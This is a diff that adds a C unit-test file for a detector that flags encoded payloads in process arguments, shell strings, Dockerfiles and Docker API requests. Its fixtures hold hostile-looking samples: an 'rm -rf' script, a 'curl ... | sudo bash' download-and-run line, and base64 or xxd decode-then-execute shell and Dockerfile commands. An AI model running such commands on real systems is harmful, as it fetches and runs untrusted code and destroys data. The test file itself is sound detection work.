@@ -1,0 +1,312 @@
+/* test_encoded_payload.c: R2, each rule with a hit and the nearest miss; what is no encoded data.
+ */
+#include <stdio.h>
+#include "codec.h"
+#include "facts.h"
+#include "payload.h"
+
+#define TEXT   "the quick brown fox jumps over the lazy dog" /* 43 bytes */
+#define SCRIPT "#!/bin/sh\nrm -rf /tmp/x\ncurl http://h/i\n"
+
+enum form { HEX_ESC, OCTAL, UNICODE, PERCENT, HEX, BASE64 };
+
+static char encoded[4][2048];
+
+static const char *encode(const char *text, enum form form, int slot)
+{
+	static const char *const formats[] = {"\\x%02x", "\\%03o", "\\u%04x", "%%%02X", "%02x"};
+	char *to = encoded[slot];
+
+	if (form == BASE64) {
+		struct buf b = {0};
+
+		base64_encode(span_of(text), &b);
+		snprintf(to, sizeof(encoded[0]), "%s", b.ptr);
+		buf_free(&b);
+		return to;
+	}
+	for (char *p = to; *text; text++)
+		p += sprintf(p, formats[form], (unsigned char)*text);
+	return to;
+}
+
+static void argued(const char *arg)
+{
+	exec_look(&detect_encoded_payload, process_new("tool", 0, ARGV("tool", arg)));
+}
+
+static void each_coding_is_found_from_33_bytes_on(void **s)
+{
+	char thirty_three[34] = "", thirty_two[33] = "";
+
+	(void)s;
+	memcpy(thirty_three, TEXT, 33);
+	memcpy(thirty_two, TEXT, 32);
+	for (int form = HEX_ESC; form <= BASE64; form++) {
+		argued(encode(thirty_three, form, 0));
+		check_hit("R2.1");
+		check_miss("R2.2");
+		argued(encode(thirty_two, form, 0));
+		assert_int_equal(report.n, 0);
+	}
+}
+
+static void plain_text_and_binary_data_are_nothing(void **s)
+{
+	char digits[200] = "";
+
+	(void)s;
+	argued(TEXT TEXT TEXT);
+	assert_int_equal(report.n, 0);
+	for (int i = 0; i < 50; i++)
+		sprintf(digits + 2 * i, "%02x", i * 37 % 256);
+	argued(digits);
+	assert_int_equal(report.n, 0);
+}
+
+static void ids_digests_paths_and_tokens_are_no_payload(void **s)
+{
+	static const char *const args_of[] = {
+	    "d41d8cd98f00b204e9800998ecf8427e",
+	    "sha256:e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855",
+	    "cf83e1357eefb8bdf1542850d66d8007d620e4050b5715dc83f4a921d36ce9ce47d0d13c5d85f2b0ff8318"
+	    "d2877eec2f63b931bd4"
+	    "7417a81a538327af927da3e",
+	    "01920000-0000-7000-8000-000000000001",
+	    "/usr/lib/x86_64-linux-gnu/python3/dist-packages/somewhere/verylongname/another",
+	    "eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9."
+	    "eyJzdWIiOiIxMjM0NTY3ODkwIiwibmFtZSI6IkpvaG4gRG9lIiwiaWF0IjoxNTE2MjM5"
+	    "MDIyfQ.SflKxwRJSMeKKF2QT4fwpMeJf36POk6yJV_adQssw5c",
+	    "sha512-z4PhNX7vuL3xVChQ1m2AB9Yg5AULVxXcg/"
+	    "SpIdNs6c5H0NE8XYXysP+DGNKHfuwvY7kxvUdBeoGlODJ6+SfaPg==",
+	    "http://host/a%20b%20c?x=%7B%22a%22%3A1%7D",
+	};
+
+	(void)s;
+	for (size_t i = 0; i < ARRAY_SIZE(args_of); i++) {
+		argued(args_of[i]);
+		assert_int_equal(report.n, 0);
+	}
+}
+
+static void a_certificate_is_no_payload(void **s)
+{
+	(void)s;
+	argued(encode("-----BEGIN CERTIFICATE-----\nMIIBszCCAVmgAwIBAgIUQ2\nabc=\n-----END "
+		      "CERTIFICATE-----\n",
+		      BASE64, 0));
+	assert_int_equal(report.n, 0);
+	argued(encode("-----BEGIN CERTIFICATE-----\nrm -rf /tmp/x\n-----END CERTIFICATE-----\n",
+		      BASE64, 0));
+	check_hit("R2.1");
+}
+
+static void executable_content_is_worse(void **s)
+{
+	static const char elf[] =
+	    "\177ELF\2\1\1\0\0\0\0\0\0\0\0\0\3\0>\0\1\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0";
+	struct buf b = {0};
+
+	(void)s;
+	for (int form = HEX_ESC; form <= BASE64; form++) {
+		argued(encode(SCRIPT, form, 0));
+		check_hit("R2.1");
+		check_hit("R2.2");
+	}
+	argued(encode("#!/bin/sh\necho this is all that it does\n", BASE64, 0));
+	check_hit("R2.1");
+	check_miss("R2.2");
+	argued(encode("curl -fsSL http://example.org/install | sudo bash", BASE64, 0));
+	check_hit("R2.2");
+	assert_non_null(strstr(found("R2.2")->evidence.ptr, "download"));
+	argued(encode("curl is a nice program, and so are many others", BASE64, 0));
+	check_hit("R2.1");
+	check_miss("R2.2");
+	base64_encode((struct span){elf, sizeof(elf)}, &b);
+	argued(b.ptr);
+	check_hit("R2.2");
+	b.ptr[0]++;
+	argued(b.ptr);
+	assert_int_equal(report.n, 0);
+	buf_free(&b);
+}
+
+static void layers_do_not_hide_it(void **s)
+{
+	(void)s;
+	encode(SCRIPT, BASE64, 0);
+	encode(encoded[0], HEX, 1);
+	encode(encoded[1], BASE64, 2);
+	argued(encoded[2]);
+	check_hit("R2.2");
+	assert_non_null(strstr(found("R2.2")->evidence.ptr, "3 layers"));
+	assert_non_null(strstr(found("R2.2")->subject.ptr, "base64"));
+}
+
+static void a_prefix_or_line_breaks_do_not_hide_it(void **s)
+{
+	char text[16384];
+
+	(void)s;
+	for (int i = 0; i < 4; i++) {
+		snprintf(text, sizeof(text), "%.*s/%s", i, "abc", encode(SCRIPT, BASE64, 0));
+		argued(text);
+		check_hit("R2.2");
+	}
+	encode(SCRIPT SCRIPT SCRIPT, BASE64, 0);
+	snprintf(text, sizeof(text), "%.64s\n%s", encoded[0], encoded[0] + 64);
+	argued(text);
+	check_hit("R2.2");
+	snprintf(text, sizeof(text), "DATA=%s", encode(SCRIPT, BASE64, 0));
+	argued(text);
+	check_hit("R2.2");
+}
+
+static void a_preview_keeps_a_key_to_itself(void **s)
+{
+	(void)s;
+	argued(encode("-----BEGIN PRIVATE KEY-----\nMC4CAQAwBQYDK2VwBCIEIHhIDDEN\n-----END PRIVATE "
+		      "KEY-----\n",
+		      HEX_ESC, 0));
+	check_hit("R2.1");
+	assert_null(strstr(found("R2.1")->evidence.ptr, "HIDDEN"));
+	assert_null(strstr(found("R2.1")->evidence.ptr, "HhID"));
+	argued(encode("export DB_PASSWORD=correcthorse and more text here", HEX_ESC, 0));
+	check_hit("R2.1");
+	assert_null(strstr(found("R2.1")->evidence.ptr, "horse"));
+}
+
+static void dockerfile(const char *format, const char *text, enum form form)
+{
+	char file[16384];
+
+	snprintf(file, sizeof(file), format, encode(text, form, 3));
+	docker_look(&detect_encoded_payload, "/v1.43/build", NULL, NULL, file);
+}
+
+static void the_reviewed_scripts_dockerfile(void **s)
+{
+	(void)s;
+	dockerfile(
+	    "FROM ubuntu:18.04\nRUN echo \"'%s'\" | xargs echo -e > /post.py;chmod 755 /post.py\n",
+	    TEXT, HEX_ESC);
+	check_hit("R2.1");
+	check_hit("R2.4");
+	assert_string_equal(found("R2.4")->subject.ptr, "Dockerfile RUN: /post.py");
+	dockerfile(
+	    "FROM ubuntu:18.04\nRUN echo \"'%s'\" | xargs echo -e > /post.py;chmod 644 /post.py\n",
+	    TEXT, HEX_ESC);
+	check_hit("R2.1");
+	check_miss("R2.4");
+	dockerfile(
+	    "FROM ubuntu:18.04\nRUN echo \"'%s'\" | xargs echo -e > /post.py;chmod 755 /other\n",
+	    TEXT, HEX_ESC);
+	check_miss("R2.4");
+	dockerfile(
+	    "FROM ubuntu:18.04\nRUN echo \"plain text\" > /post.py;chmod 755 /post.py # %s\n", "x",
+	    HEX_ESC);
+	assert_int_equal(report.n, 0);
+	dockerfile("FROM ubuntu:18.04\n# RUN echo '%s' > /p;chmod 755 /p\n", TEXT, HEX_ESC);
+	assert_int_equal(report.n, 0);
+	dockerfile("FROM x\nRUN echo '%s' \\\n# remark\n > /p && \\\n chmod u+x /p\n", TEXT,
+		   HEX_ESC);
+	check_hit("R2.4");
+	dockerfile("FROM x\nONBUILD RUN echo '%s' | base64 -d > /p && /p", TEXT, BASE64);
+	check_hit("R2.4");
+	dockerfile("FROM x\nRUN [\"sh\", \"-c\", \"echo %s | base64 -d > /p && sh /p\"]\n", TEXT,
+		   BASE64);
+	check_hit("R2.4");
+}
+
+static void shell_given(const char *string)
+{
+	exec_look(&detect_encoded_payload,
+		  process_new("bash", ROLE_SHELL, ARGV("bash", "-c", string)));
+}
+
+static void a_shell_string_decodes_and_executes(void **s)
+{
+	(void)s;
+	shell_given(
+	    "base64 -d < $W/e.dat > $W/art.sh; chmod +x $W/art.sh; $W/art.sh || sh $W/art.sh");
+	check_hit("R2.4");
+	shell_given("base64 < $W/e.dat > $W/art.sh; chmod +x $W/art.sh");
+	check_miss("R2.4");
+	shell_given("base64 -d < $W/e.dat > $W/art.sh; chmod a-x $W/art.sh");
+	check_miss("R2.4");
+	shell_given("xxd -r -p e.hex | tee ./run; chmod u=rwx,go=r run");
+	check_hit("R2.4");
+	shell_given("echo \"$(echo aWQ= | base64 -d)\" > /tmp/a; mv /tmp/a /tmp/b; bash -x /tmp/b");
+	check_hit("R2.4");
+	shell_given("chmod +x a; base64 -d e > a");
+	check_miss("R2.4");
+	exec_look(&detect_encoded_payload,
+		  process_new("tool", 0, ARGV("tool", "-c", "base64 -d e > /a; /a")));
+	check_miss("R2.4");
+}
+
+static void containers_execs_and_build_arguments_are_places(void **s)
+{
+	char body[16384];
+
+	(void)s;
+	snprintf(body, sizeof(body), "{\"Cmd\":[\"sh\",\"-c\",\"%s\"]}", encode(SCRIPT, BASE64, 0));
+	docker_look(&detect_encoded_payload, "/v1.43/containers/create", body, NULL, NULL);
+	assert_string_equal(found("R2.2")->subject.ptr, "base64 in a container command");
+	docker_look(&detect_encoded_payload, "/v1.43/containers/abc/exec", body, NULL, NULL);
+	assert_string_equal(found("R2.2")->subject.ptr, "base64 in an exec command");
+	docker_look(&detect_encoded_payload, "/v1.43/containers/abc/start", body, NULL, NULL);
+	assert_int_equal(report.n, 0);
+	snprintf(body, sizeof(body), "{\"Labels\":{\"x\":\"%s\"}}", encoded[0]);
+	docker_look(&detect_encoded_payload, "/v1.43/containers/create", body, NULL, NULL);
+	assert_int_equal(report.n, 0);
+	encode(SCRIPT, HEX, 0);
+	snprintf(body, sizeof(body), "t=a&buildargs=%%7B%%22A%%22%%3A%%22%s%%22%%7D", encoded[0]);
+	docker_look(&detect_encoded_payload, "/v1.43/build", NULL, body, NULL);
+	assert_string_equal(found("R2.2")->subject.ptr, "hex digits in a build argument");
+}
+
+static void hostile_text_ends(void **s)
+{
+	static char big[120000];
+	static const char *const patterns[] = {"$(",   "`",  "\\x4", "%4",   "eyJ.", "(", "a;",
+					       "QUFB", "\\", "<<",   "\"$(", "41",   "|"};
+	struct fact f = {.kind = FACT_EXEC, .run = &run};
+
+	(void)s;
+	for (size_t i = 0; i < ARRAY_SIZE(patterns); i++) {
+		size_t n = strlen(patterns[i]);
+
+		for (size_t k = 0; k + n < sizeof(big) - 1; k += n)
+			memcpy(big + k, patterns[i], n + 1);
+		process_new("sh", ROLE_SHELL, ARGV("sh", "-c"));
+		f.process = &process;
+		memcpy(big, "sh\0-c\0", 6);
+		process.args = big;
+		process.args_len = sizeof(big) - 1;
+		process.argc = 3;
+		report_reset(&report);
+		detect_all(&f, &report);
+		docker_look(&detect_encoded_payload, "/v1.43/build", NULL, NULL, big + 6);
+	}
+}
+
+int main(void)
+{
+	const struct CMUnitTest tests[] = {
+	    cmocka_unit_test(each_coding_is_found_from_33_bytes_on),
+	    cmocka_unit_test(plain_text_and_binary_data_are_nothing),
+	    cmocka_unit_test(ids_digests_paths_and_tokens_are_no_payload),
+	    cmocka_unit_test(a_certificate_is_no_payload),
+	    cmocka_unit_test(executable_content_is_worse),
+	    cmocka_unit_test(layers_do_not_hide_it),
+	    cmocka_unit_test(a_prefix_or_line_breaks_do_not_hide_it),
+	    cmocka_unit_test(a_preview_keeps_a_key_to_itself),
+	    cmocka_unit_test(the_reviewed_scripts_dockerfile),
+	    cmocka_unit_test(a_shell_string_decodes_and_executes),
+	    cmocka_unit_test(containers_execs_and_build_arguments_are_places),
+	    cmocka_unit_test(hostile_text_ends),
+	};
+
+	return FACT_TESTS(tests);
+}
